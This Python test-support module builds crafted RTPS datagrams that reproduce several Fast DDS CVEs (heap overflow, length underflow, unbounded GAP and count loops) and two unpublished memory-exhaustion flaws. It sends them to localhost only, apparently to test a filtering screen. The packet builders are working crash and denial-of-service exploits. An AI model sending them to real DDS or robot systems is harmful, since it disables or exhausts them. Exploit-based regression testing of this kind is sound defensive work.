"""The published Fast DDS flaws as an attacker on the robot's network would send them (issue 46),
shared by integration.fastdds_flaws, make test-image, make test-service, make test-fastdds3 and make
test-fastdds214.

Each is written from upstream's account of its fix (the fix commit's message and its regression
test in eProsima/Fast-DDS: which submessage, which field, which values), not from its code:

  CVE-2025-62799  "Fix CVE-2025-62799": a DATA_FRAG whose last fragment starts at an offset that is
                  not a multiple of 4; Fast DDS keeps the index of the next missing fragment at the
                  4-aligned start of each fragment, so for the last one it writes up to 4 bytes past
                  the sample's buffer (fixed by reserving room for that index). Upstream's test:
                  fragment 2 of a 50,003-byte sample in fragments of 50,002.
  CVE-2025-65865  "Fix several CVEs" (May 2026): proc_Submsg_DataFrag subtracts the DATA_FRAG's
                  header size from its octetsToNextHeader unchecked; upstream's test sends 28 where
                  the header alone is 32, and the payload length wraps to about 4 GB.
  CVE-2026-22590  "Fix CVE-2026-22590": CacheChange::add_fragments did not check the bytes a
                  submessage holds against the length of the last fragment it claims; upstream's test
                  claims fragments 1 to 8 of 65,504 bytes and carries 4.
  CVE-2025-64438  "Fix CVE-2025-64438": a GAP's range (gapStart to gapList.base) is walked one
                  sequence number at a time into a set of the writer proxy's, unbounded; upstream's
                  test: from 10 to 2^32 - 1.
  CVE-2026-49861  "Fix several deserialization CVEs" (June 2026): element counts read from a
                  DATA(w)/DATA(r) parameter drive push_back loops, bounded by nothing:
                  PID_DATA_REPRESENTATION's count and PID_DATASHARING's number of domains.

And two found for rsg, published nowhere (issue 46, "bounded whatever gets through"):

  bulky-endpoints Fast DDS keeps every remote endpoint's announcement whole, its user data among it,
                  by default without a bound: 120 writers of one made-up participant, each with
                  60,000 bytes of user data (what a datagram holds), are 7 MB of the victim's memory,
                  and 256 such participants 1.8 GB. rsg's participants bound it (data_limits).
  refused-announcements  a discovery sample Fast DDS cannot read (one parameter of another length
                  than it reads, here PID_DURABILITY) is left in its discovery reader's history
                  until the sender's participant goes (its listener removes only what it read; the
                  code of 2.9.1 to 3.6.1 and of master in August 2026): one made-up participant's
                  DATA(w) of 60 kB, each with a sequence number of its own, grow the victim without
                  end (7 MB per 120 of them).

Each flaw is in a reader, for a writer Fast DDS has matched: each attack first announces a made-up
participant (one SPDP DATA(p), tests/support/dds_attacks.py), then speaks as that participant's
built-in writers (the SPDP and SEDP readers of every participant of the domain), or announces a
writer of robot_state and speaks as it (every reader of the topic, as upstream's regression tests
do). Only this host is ever a target: unicast to 127.0.0.1, and the discovery multicast group with a
TTL of 0 (delivered to this host's members, never sent on a link).
"""

import random
import socket
import struct
import time

from dds_attacks import VENDOR_EPROSIMA, domain_ports, participant_announcement

# Built-in entity ids (RTPS 2.x, 9.3.1.2).
SPDP_WRITER = bytes.fromhex("000100c2")
SPDP_READER = bytes.fromhex("000100c7")
SEDP_PUBLICATIONS_WRITER = bytes.fromhex("000003c2")
SEDP_PUBLICATIONS_READER = bytes.fromhex("000003c7")
ENTITYID_UNKNOWN = bytes(4)  # as a reader id: every reader that has the writer matched
USER_WRITER = bytes.fromhex("00000103")  # the made-up participant's writer of robot_state (0x03: no key)

WAYS = ("unicast", "multicast")

DATA_FRAG = 0x16
GAP = 0x08
# DATA_FRAG after its 4-byte submessage header: extraFlags, octetsToInlineQos, readerId, writerId,
# writerSN, fragmentStartingNum, fragmentsInSubmessage, fragmentSize, sampleSize (RTPS 2.x, 9.4.5.4).
DATA_FRAG_HEADER = 32


def _message(guid_prefix, *submessages):
    return b"RTPS" + b"\x02\x03" + VENDOR_EPROSIMA + guid_prefix + b"".join(submessages)


def _sequence_number(value):
    return struct.pack("<iI", value >> 32, value & 0xFFFFFFFF)


def data_frag(guid_prefix, sn, first_fragment, fragments, fragment_size, sample_size, data, length=None,
              reader=SPDP_READER, writer=SPDP_WRITER):
    """One RTPS message with one little-endian DATA_FRAG; `length` (octetsToNextHeader) as given, else
    the true one."""
    body = struct.pack("<HH", 0, 28) + reader + writer + _sequence_number(sn) + \
        struct.pack("<IHHI", first_fragment, fragments, fragment_size, sample_size) + data
    header = bytes([DATA_FRAG, 0x01]) + struct.pack("<H", len(body) if length is None else length)
    return _message(guid_prefix, header + body)


def gap(guid_prefix, gap_start, list_base, reader=SEDP_PUBLICATIONS_READER, writer=SEDP_PUBLICATIONS_WRITER):
    """One RTPS message with one little-endian GAP: gapStart, then a gapList with `list_base` and no bits."""
    body = reader + writer + _sequence_number(gap_start) + _sequence_number(list_base) + struct.pack("<I", 0)
    return _message(guid_prefix, bytes([GAP, 0x01]) + struct.pack("<H", len(body)) + body)


def _parameter(pid, value):
    value += bytes(-len(value) % 4)
    return struct.pack("<HH", pid, len(value)) + value


def _string(text):
    raw = text.encode() + b"\x00"
    return struct.pack("<I", len(raw)) + raw


def publication(guid_prefix, sn, parameters, writer=USER_WRITER):
    """A DATA(w): the made-up participant's writer `writer` of robot_state (type rsg::RobotState),
    whose parameter list carries `parameters` ((PID, value) pairs) before its GUID, topic and type."""
    payload = b"\x00\x03\x00\x00"  # PL_CDR_LE
    for pid, value in parameters:
        payload += _parameter(pid, value)
    payload += _parameter(0x005A, guid_prefix + writer)                       # PID_ENDPOINT_GUID
    payload += _parameter(0x0050, guid_prefix + bytes.fromhex("000001c1"))   # PID_PARTICIPANT_GUID
    payload += _parameter(0x0005, _string("robot_state"))                      # PID_TOPIC_NAME
    payload += _parameter(0x0007, _string("rsg::RobotState"))                  # PID_TYPE_NAME
    payload += struct.pack("<HH", 0x0001, 0)                                   # PID_SENTINEL
    body = struct.pack("<HH", 0, 16) + SEDP_PUBLICATIONS_READER + SEDP_PUBLICATIONS_WRITER + \
        _sequence_number(sn) + payload
    return _message(guid_prefix, bytes([0x15, 0x05]) + struct.pack("<H", len(body)) + body)


# A reliable writer (PID_RELIABILITY: RELIABLE, max_blocking_time 0.1 s): every reader of the topic
# matches it, reliable or best effort.
RELIABLE = (0x001A, struct.pack("<iiI", 2, 0, 0x1999999A))


# Each builder: (guid prefix of the made-up participant, reader, writer, first sequence number) ->
# the datagrams that follow its announcement.

def cve_2025_62799(prefix, reader, writer, sn):
    """Fragment 2 (the last, 1 byte) of samples of F + 1 bytes in fragments of F: the index of the
    last fragment goes at F rounded up to 4, past the sample. Fast DDS 2.9 keeps a payload 12 bytes
    after the start of its heap block (TopicPayloadPool's NodeInfo); for F = 9, 10 or 11 (mod 16)
    malloc leaves no slack after F + 1 + 12 bytes, and the index lands on the size of the heap chunk
    that follows. Three of them, each larger than the one before, so that the buffer is reallocated
    over the damage."""
    return [data_frag(prefix, sn + i, 2, 1, size, size + 1, b"\xaa", reader=reader, writer=writer)
            for i, size in enumerate((50009, 60010, 64011))]


# The fragment size of the two flaws that make Fast DDS copy more than arrived: 1,000 fragments of
# it are 16 MB, read from a receive buffer of 64 kB (far past its heap), and a sample under 16 MiB
# (the largest a fragmented sample may be, for the screen: kMaxFragmentedSampleBytes), so that it is
# the flaw's own check that refuses them.
FRAGMENT = 16000


def cve_2025_65865(prefix, reader, writer, sn):
    """DATA_FRAGs whose octetsToNextHeader (28) is smaller than their own header (32), so that the
    payload length Fast DDS computes wraps to 2^32 - 4: each claims fragments 1 to 1,000 of 16,000
    bytes (not the last: the sample is 1,001 fragments long) and holds none. Three of them."""
    return [data_frag(prefix, sn + i, 1, 1000, FRAGMENT, FRAGMENT * 1001, b"", length=DATA_FRAG_HEADER - 4,
                      reader=reader, writer=writer) for i in range(3)]


def cve_2026_22590(prefix, reader, writer, sn):
    """Fragments 1 to 1,000 of 16,000 bytes (the whole sample, the last one included) with 4 bytes of
    data: the last fragment's length is taken from the sample, not from what arrived. Three of them."""
    return [data_frag(prefix, sn + i, 1, 1000, FRAGMENT, FRAGMENT * 1000, b"\xa0\xa1\xa2\xa3", reader=reader,
                      writer=writer) for i in range(3)]


def cve_2025_64438(prefix, reader, writer, _sn):
    """A GAP from the made-up participant's publications writer to the built-in publications reader,
    from sequence number 10 (upstream's; 1 to 9 never arrived, so none of these is the next one
    expected and each is kept) to 10 + 2^32: 2^32 sequence numbers declared irrelevant, one by one."""
    return [gap(prefix, 10, 10 + (1 << 32), reader=reader, writer=writer)]


def cve_2026_49861(prefix, _reader, _writer, sn):
    """Two DATA(w): one whose PID_DATA_REPRESENTATION says 0xFFFFFFFF representations and holds one,
    one (the next sequence number) whose PID_DATASHARING says 0xFFFFFFFF domains and holds one."""
    representation = (0x0073, struct.pack("<Ih", 0xFFFFFFFF, 1))
    data_sharing = (0x8006, struct.pack("<IQ", 0xFFFFFFFF, 1))
    return [publication(prefix, sn, [representation]), publication(prefix, sn + 1, [data_sharing])]


# What bulky_endpoints announces: writers per made-up participant (within the 128 an rsg participant
# keeps of one), and bytes of user data each.
BULKY_WRITERS = 120
BULKY_USER_DATA = 60000


def bulky_endpoints(prefix, _reader, _writer, sn):
    """BULKY_WRITERS DATA(w), each a writer of its own (entity keys 1 to BULKY_WRITERS, no key)
    with BULKY_USER_DATA bytes of PID_USER_DATA."""
    user_data = (0x002C, struct.pack("<I", BULKY_USER_DATA) + bytes(range(256)) * (BULKY_USER_DATA // 256) +
                 bytes(BULKY_USER_DATA % 256))
    return [publication(prefix, sn + i, [user_data], writer=struct.pack(">I", (i + 1) << 8 | 0x03))
            for i in range(BULKY_WRITERS)]


# What refused_announcements sends: DATA(w) per made-up participant, and the bytes each carries in a
# parameter no reader knows (which Fast DDS skips).
REFUSED_ANNOUNCEMENTS = 120
REFUSED_PADDING = 60000


def refused_announcements(prefix, _reader, _writer, sn):
    """REFUSED_ANNOUNCEMENTS DATA(w), each a writer of its own, each carrying REFUSED_PADDING bytes in
    an unknown parameter (0x3ff0) and an empty PID_DURABILITY where Fast DDS reads 4 bytes (2.9
    refuses any other length, 2.14 and 3.x a shorter one): a sample Fast DDS refuses to read, and
    keeps in its discovery reader's history."""
    padding = (0x3FF0, bytes(REFUSED_PADDING))
    durability = (0x001D, b"")
    return [publication(prefix, sn + i, [padding, durability], writer=struct.pack(">I", (i + 1) << 8 | 0x03))
            for i in range(REFUSED_ANNOUNCEMENTS)]


class Flaw:
    """One published flaw sent to one kind of reader: `target` "spdp" (the built-in participant
    reader, as the participant's own SPDP writer), "sedp" (the built-in publications reader, as its
    publications writer) or "user" (every reader of robot_state, as a writer of robot_state the
    made-up participant announced first: upstream's regression tests' target). A user reader listens
    on unicast ports only, so `ways` is unicast alone for those (and for a "held" row, below)."""

    def __init__(self, cve, what, kind, build, target):
        self.cve, self.what, self.kind, self.build, self.target = cve, what, kind, build, target
        # A "held" row to the discovery group added nothing to a plain 2.9.1 participant (36 kB):
        # it is sent unicast, where it does.
        self.ways = ("unicast",) if target == "user" or kind == "held" else WAYS
        self.name = f"{cve} to a user reader" if target == "user" else cve

    def stages(self, domain, rng, listen_port):
        """The datagrams, in stages sent with a pause between them: the made-up participant's
        announcement (metatraffic on 127.0.0.1:`listen_port`, where nothing need listen), for a user
        reader its writer's DATA(w), then the attack."""
        prefix = rng.randbytes(12)
        stages = [[participant_announcement(domain, prefix, listen_port)]]
        if self.target == "spdp":
            stages.append(self.build(prefix, SPDP_READER, SPDP_WRITER, 2))
        elif self.target == "sedp":
            stages.append(self.build(prefix, SEDP_PUBLICATIONS_READER, SEDP_PUBLICATIONS_WRITER, 1))
        else:
            stages.append([publication(prefix, 1, [RELIABLE])])
            stages.append(self.build(prefix, ENTITYID_UNKNOWN, USER_WRITER, 1))
        return stages


# kind: what the flaw did to Fast DDS 2.9.1 as Debian 12 builds it, without rsg's screen (issue 46):
# "crash" (a signal), "spin" (a thread at 100 % and memory growing), "growth" (memory growing), or
# "held": memory the victim keeps for as long as the made-up participant lives, and
# "bounded": nothing to a reader of robot_state, whose type is bounded, so that Fast DDS gives its
# reader a preallocated history of payloads of the type's largest size (2,159 bytes) and refuses a
# larger sample at its first fragment ("cannot be resized"); sent for the screen, which must refuse
# them on user traffic too.
FLAWS = [
    Flaw("CVE-2025-62799", "DATA_FRAG whose last fragment runs past the sample (heap overflow)", "crash",
         cve_2025_62799, "spdp"),
    Flaw("CVE-2025-65865", "DATA_FRAG octetsToNextHeader smaller than its header (underflow), 1000 fragments",
         "crash", cve_2025_65865, "spdp"),
    Flaw("CVE-2026-22590", "DATA_FRAG fragments 1..1000 with 4 bytes of data", "crash", cve_2026_22590, "spdp"),
    Flaw("CVE-2025-64438", "GAP over 2^32 sequence numbers to the SEDP publications reader", "spin",
         cve_2025_64438, "sedp"),
    Flaw("CVE-2026-49861", "DATA(w) with a DATA_REPRESENTATION / DATASHARING count of 0xFFFFFFFF", "growth",
         cve_2026_49861, "sedp"),
    Flaw("bulky-endpoints", f"{BULKY_WRITERS} DATA(w) of one made-up participant, each with {BULKY_USER_DATA} "
         "bytes of user data", "held", bulky_endpoints, "sedp"),
    Flaw("refused-announcements", f"{REFUSED_ANNOUNCEMENTS} DATA(w) of one made-up participant that Fast DDS "
         f"refuses to read (an empty PID_DURABILITY), each with {REFUSED_PADDING} bytes of an unknown parameter",
         "held", refused_announcements, "sedp"),
    Flaw("CVE-2025-62799", "the same DATA_FRAGs, from a writer of robot_state", "bounded", cve_2025_62799, "user"),
    Flaw("CVE-2025-65865", "the same DATA_FRAGs, from a writer of robot_state", "bounded", cve_2025_65865, "user"),
    Flaw("CVE-2026-22590", "the same DATA_FRAGs, from a writer of robot_state", "bounded", cve_2026_22590, "user"),
]

def discovery_group(domain):
    """The SPDP multicast locator of `domain` (RTPS 2.x, 9.6.1.4.1: 239.255.0.1, 7400 + 250 × domain)."""
    return ("239.255.0.1", 7400 + 250 * domain)


# Datagrams larger than this go one every 2 ms, so that a receive buffer of the kernel's default
# size (208 kB, a plain Fast DDS participant's) holds them until its thread reads them.
LARGE_DATAGRAM = 8192


def send(stages, way, domain, ports=None, pause_s=0.1):
    """The stages of datagrams, with `pause_s` between them for the victims to take in the made-up
    participant and its writer: `unicast` to each of `ports` (default: every port of the domain bound
    on this host) on 127.0.0.1, `multicast` to the domain's discovery group, looped back to this
    host's members and never sent on a link (TTL 0). At most about 20,000 datagrams a second, 500 large ones."""
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sender:
        sender.setsockopt(socket.IPPROTO_IP, socket.IP_MULTICAST_LOOP, 1)
        sender.setsockopt(socket.IPPROTO_IP, socket.IP_MULTICAST_TTL, 0)
        if way == "unicast":
            targets = [("127.0.0.1", port) for port in (ports if ports is not None else domain_ports(domain))]
        else:
            targets = [discovery_group(domain)]
        for number, stage in enumerate(stages):
            if number:
                time.sleep(pause_s)
            for index, datagram in enumerate(stage):
                for target in targets:
                    sender.sendto(datagram, target)
                if len(datagram) > LARGE_DATAGRAM:
                    time.sleep(0.002)
                elif index % 200 == 199:
                    time.sleep(0.01)


def attack(flaw, way, domain, ports=None, seed=46):
    """Sends `flaw` one `way` as a made-up participant of its own; returns the number of datagrams."""
    rng = random.Random(f"{seed}/{flaw.name}/{way}")
    stages = flaw.stages(domain, rng, 40000 + rng.randrange(1000) * 2)
    send(stages, way, domain, ports)
    return sum(len(stage) for stage in stages)


def attack_every(domain, alive, pause_s=0.2):
    """Every flaw, each way, each as a made-up participant of its own; after each, `pause_s` for a
    crash to come, then `alive(what)`, which raises when the victim died. Returns the datagrams sent."""
    sent = 0
    for flaw in FLAWS:
        for way in flaw.ways:
            sent += attack(flaw, way, domain)
            time.sleep(pause_s)
            alive(f"{flaw.name} sent {way}")
    return sent
